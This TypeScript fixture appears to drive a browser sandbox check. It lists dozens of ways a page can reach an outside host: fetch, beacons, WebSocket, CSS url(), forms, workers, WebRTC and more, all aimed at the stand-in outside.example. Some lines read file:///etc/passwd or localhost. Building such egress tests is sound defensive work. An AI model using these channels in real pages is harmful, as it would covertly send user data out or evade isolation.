/** Where everything wants to go. Nobody answers there. */
export const OUTSIDE = 'https://outside.example';

/**
 * Everything by which a page can ask for something outside of itself, each as a function of its own that is run
 * within the window, where `O` is the address outside and `put(name, attributes)` adds an element to the page.
 */
export const KINDS: Readonly<Record<string, string>> = {
  fetch: 'fetch(O + "/a").catch(() => 0)',
  'fetch without cors, kept alive':
    'fetch(O + "/a", { method: "POST", mode: "no-cors", keepalive: true, body: "b" }).catch(() => 0)',
  'fetch of a file': 'fetch("file:///etc/passwd").catch(() => 0)',
  'fetch of this machine': 'fetch("http://127.0.0.1:9/").catch(() => 0)',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", O + "/x"); x.send()',
  'XMLHttpRequest at once':
    'const x = new XMLHttpRequest(); x.open("GET", O + "/x", false); try { x.send() } catch {}',
  WebSocket: 'try { new WebSocket("wss://outside.example/") } catch {}',
  EventSource: 'new EventSource(O + "/events")',
  sendBeacon: 'navigator.sendBeacon(O + "/beacon", "b")',
  img: 'put("img", { src: O + "/i.png" })',
  'img srcset': 'put("img", { srcset: O + "/i2.png 2x, " + O + "/i1.png 1x" })',
  picture: 'put("picture").append(make("source", { srcset: O + "/p.png" }), make("img", { alt: "" }))',
  'input image': 'put("input", { type: "image", src: O + "/input.png" })',
  'SVG image': 'draw("image", { href: O + "/s.png", width: "9", height: "9" })',
  'SVG feImage': 'draw("feImage", { href: O + "/fe.png" })',
  script: 'put("script", { src: O + "/s.js" })',
  'module script': 'put("script", { type: "module", src: O + "/m.js" })',
  'import()': 'import(O + "/d.js").catch(() => 0)',
  'style sheet': 'put("link", { rel: "stylesheet", href: O + "/c.css" })',
  'alternate style sheet': 'put("link", { rel: "alternate stylesheet", title: "b", href: O + "/c.css" })',
  'CSS @import': 'put("style").textContent = `@import "${O}/i.css";`',
  'CSS background': 'put("div").style.background = `url(${O}/bg.png)`',
  'CSS list image': 'Object.assign(put("li").style, { display: "list-item", listStyle: `url(${O}/l.png)` })',
  'CSS border image':
    'Object.assign(put("div").style, { border: "3px solid", borderImage: `url(${O}/b.png) 3` })',
  'CSS mask': 'put("div").style.mask = `url(${O}/mask.png)`',
  'CSS shape': 'Object.assign(put("div").style, { float: "left", shapeOutside: `url(${O}/shape.png)` })',
  'CSS cursor': 'document.body.style.cursor = `url(${O}/k.cur), auto`',
  'CSS content': 'put("div").style.content = `url(${O}/content.png)`',
  'CSS image-set': 'put("div").style.backgroundImage = `image-set(url(${O}/set.png) 1x)`',
  'CSS font': 'new FontFace("Strange", `url(${O}/f.woff2)`).load().catch(() => 0)',
  iframe: 'put("iframe", { src: O + "/frame" })',
  object: 'put("object", { data: O + "/o.html", type: "text/html" })',
  'object PDF': 'put("object", { data: O + "/o.pdf", type: "application/pdf" })',
  embed: 'put("embed", { src: O + "/e.html", type: "text/html" })',
  video: 'put("video", { src: O + "/v.mp4", preload: "auto" })',
  'video poster': 'put("video", { poster: O + "/poster.png" })',
  'video source': 'put("video", { preload: "auto" }).append(make("source", { src: O + "/v.webm" }))',
  audio: 'put("audio", { src: O + "/a.mp3", preload: "auto" })',
  track:
    'const v = put("video"); v.append(make("track", { src: O + "/t.vtt", default: "" })); v.textTracks[0].mode = "showing"',
  'form GET':
    'const f = put("form", { action: O + "/form" }); f.append(make("input", { name: "a", value: "b" })); f.submit()',
  'form POST': 'put("form", { action: O + "/form", method: "post" }).submit()',
  'form in a new window': 'put("form", { action: O + "/form", target: "_blank" }).submit()',
  formaction:
    'const f = put("form"); const b = make("button", { formaction: O + "/fa" }); f.append(b); b.click()',
  prefetch: 'put("link", { rel: "prefetch", href: O + "/prefetch" })',
  preload: 'put("link", { rel: "preload", as: "image", href: O + "/preload.png" })',
  modulepreload: 'put("link", { rel: "modulepreload", href: O + "/preload.js" })',
  favicon: 'put("link", { rel: "icon", href: O + "/favicon.png" })',
  'window.open': 'window.open(O + "/open")',
  'link to a new window': 'put("a", { href: O + "/blank", target: "_blank" }).click()',
  'link of the page': 'put("a", { href: O + "/away" }).click()',
  'link that downloads': 'put("a", { href: O + "/d.bin", download: "d.bin" }).click()',
  'area of a map':
    'const m = put("map", { name: "m" }); const a = make("area", { href: O + "/area", shape: "default" }); m.append(a); a.click()',
  'location.assign': 'location.assign(O + "/assign")',
  'location.replace': 'location.replace(O + "/replace")',
  'javascript: link': 'put("a", { href: "javascript:void 0" }).click()',
  'meta refresh':
    'document.head.append(make("meta", { "http-equiv": "refresh", content: "0;url=" + O + "/refresh" }))',
  'base address': 'document.head.append(make("base", { href: O + "/" }))',
  Worker:
    'try { new Worker(O + "/w.js") } catch {} try { new Worker(URL.createObjectURL(new Blob([""]))) } catch {}',
  SharedWorker: 'try { new SharedWorker(URL.createObjectURL(new Blob([""]))) } catch {}',
  WebTransport: 'const t = new WebTransport(O + ":4433/"); t.ready.catch(() => 0); t.closed.catch(() => 0)',
  'inline style': 'put("p", { style: `background:url(${O}/style.png)` })',
};

/**
 * What is refused without a sign that could be counted: by the platform itself, by a switch of the host, or because the
 * platform tells neither the page nor whoever watches it. That no look-up is made and no socket opened for any of
 * them is what `npm run safety -- network` looks at.
 */
export const UNCOUNTED: Readonly<Record<string, string>> = {
  'SVG use': 'draw("use", { href: O + "/u.svg#a" })',
  'CSS filter': 'put("div").style.filter = `url(${O}/f.svg#f)`',
  'iframe of a file': 'put("iframe", { src: "file:///etc/passwd" })',
  manifest: 'put("link", { rel: "manifest", href: O + "/manifest.json" })',
  'link with a ping': 'put("a", { href: "#", ping: O + "/ping" }).click()',
  'link to a file': 'put("a", { href: "file:///etc/passwd" }).click()',
  'service worker': 'navigator.serviceWorker?.register("/sw.js").catch(() => 0)',
  worklet:
    'const c = new OfflineAudioContext(1, 1, 8000); c.audioWorklet.addModule(O + "/worklet.js").catch(() => 0)',
  'dns-prefetch': 'put("link", { rel: "dns-prefetch", href: "//outside.example" })',
  preconnect: 'put("link", { rel: "preconnect", href: O })',
  WebRTC:
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:outside.example:3478" }] }); p.createDataChannel("a"); p.setLocalDescription()',
  'attribution source': 'put("img", { attributionsrc: O + "/source" })',
  'speculation rules':
    'put("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ urls: [O + "/s"] }] })',
};

/** Comes before each of them. */
export const TOOLS = `
  const O = ${JSON.stringify(OUTSIDE)};
  const make = (name, attributes = {}) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return made;
  };
  const put = (name, attributes) => {
    const made = make(name, attributes);
    document.body.append(made);
    return made;
  };
  const draw = (name, attributes) => {
    const space = 'http://www.w3.org/2000/svg';
    const drawing = document.createElementNS(space, 'svg');
    const made = document.createElementNS(space, name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    drawing.append(made);
    document.body.append(drawing);
  };
`;
